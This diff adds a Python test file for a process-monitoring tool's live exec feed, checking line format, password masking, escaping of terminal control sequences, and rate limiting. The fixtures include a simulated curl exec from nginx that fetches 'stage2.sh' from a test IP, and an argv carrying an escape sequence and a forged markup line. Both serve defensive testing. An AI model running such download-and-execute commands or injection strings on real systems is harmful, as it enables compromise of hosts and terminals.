@@ -1,0 +1,92 @@
+"""The live feed: one exec, one line, nothing in it that the process could use against the reader."""
+
+from __future__ import annotations
+
+import io
+
+from rich.console import Console
+
+from pipeline.counters import Counters
+from pipeline.enrich.masking import Masker
+from pipeline.events import Exec, HostFacts
+from pipeline.process import ProcessVersion
+from pipeline.sources.decode import decode_batch
+from pipeline.sources.synthetic import Synthetic
+from pipeline.tree import ProcessTree
+from pipeline.view import live
+from pipeline.view.live import Feed
+
+
+def _execs(*argvs: tuple[str, ...]) -> list[tuple[Exec, ProcessVersion]]:
+    """One exec of /usr/bin/curl below nginx for each argv."""
+    stream, counters = Synthetic(), Counters()
+    init = stream.running("/usr/lib/systemd/systemd", pid=1)
+    stream.snapshot_end()
+    nginx = stream.spawn(init, "/usr/sbin/nginx", ("nginx",))
+    for argv in argvs:
+        stream.spawn(nginx, "/usr/bin/curl", argv)
+    tree = ProcessTree(100, 100, counters)
+    seen = []
+    for event in decode_batch(stream.records, counters):
+        process = tree.apply(event)  # type: ignore[arg-type]  # the stream has no accounts and no steps of the clock
+        if isinstance(event, Exec) and process is not None and not isinstance(event, HostFacts):
+            seen.append((event, process))
+    return seen[1:]
+
+
+def _feed(console: Console, counters: Counters) -> Feed:
+    masker = Masker(["(?<=--password=).+"])
+    return Feed(
+        console, counters, wall_ns=lambda ns: ns, user_name=lambda _: "root", mask=masker.mask, status=lambda: ""
+    )
+
+
+def _printed(*argvs: tuple[str, ...], terminal: bool = False, width: int = 120) -> tuple[list[str], Counters]:
+    out, counters = io.StringIO(), Counters()
+    console = Console(file=out, force_terminal=terminal, width=width, color_system=None, legacy_windows=False)
+    feed = _feed(console, counters)
+    for event, process in _execs(*argvs):
+        feed.watch(event, process)
+    feed.close()
+    return [line for line in out.getvalue().splitlines() if "curl" in line or "more" in line], counters
+
+
+def test_a_line_has_time_pid_user_chain_and_command_in_a_pipe() -> None:
+    (line,), _ = _printed(("curl", "http://203.0.113.50/stage2.sh"))
+    clock, pid, user, rest = line.split(maxsplit=3)
+    assert clock.count(":") == 2
+    assert pid.isdigit()
+    assert user == "root"
+    assert rest == "systemd → nginx → curl   curl http://203.0.113.50/stage2.sh"
+
+
+def test_secrets_are_masked() -> None:
+    (line,), _ = _printed(("curl", "--password=hunter2"))
+    assert "hunter2" not in line
+    assert "--password=***" in line
+
+
+def test_what_could_steer_a_terminal_is_escaped() -> None:
+    (line,), _ = _printed(("curl", "\x1b[2Jgone\nforged [red]line[/red]"))
+    assert "\x1b" not in line
+    assert r"\x1b[2Jgone\nforged [red]line[/red]" in line
+
+
+def test_a_terminal_gets_one_line_an_exec_however_long_the_command() -> None:
+    lines, _ = _printed(("curl", "x" * 500), ("curl", "y" * 500), terminal=True, width=80)
+    assert len(lines) == 2
+
+
+def test_more_than_a_person_reads_is_left_out_said_and_counted() -> None:
+    argvs = [("curl", str(number)) for number in range(live.TERMINAL_LINES_PER_REFRESH_MAX + 7)]
+    lines, counters = _printed(*argvs, terminal=True)
+    assert "7 more not shown" in lines[0]
+    assert len(lines) == live.TERMINAL_LINES_PER_REFRESH_MAX + 1
+    assert counters.feed_lines_skipped == 7
+
+
+def test_a_pipe_gets_every_line() -> None:
+    argvs = [("curl", str(number)) for number in range(live.TERMINAL_LINES_PER_REFRESH_MAX + 7)]
+    lines, counters = _printed(*argvs)
+    assert len(lines) == len(argvs)
+    assert counters.feed_lines_skipped == 0
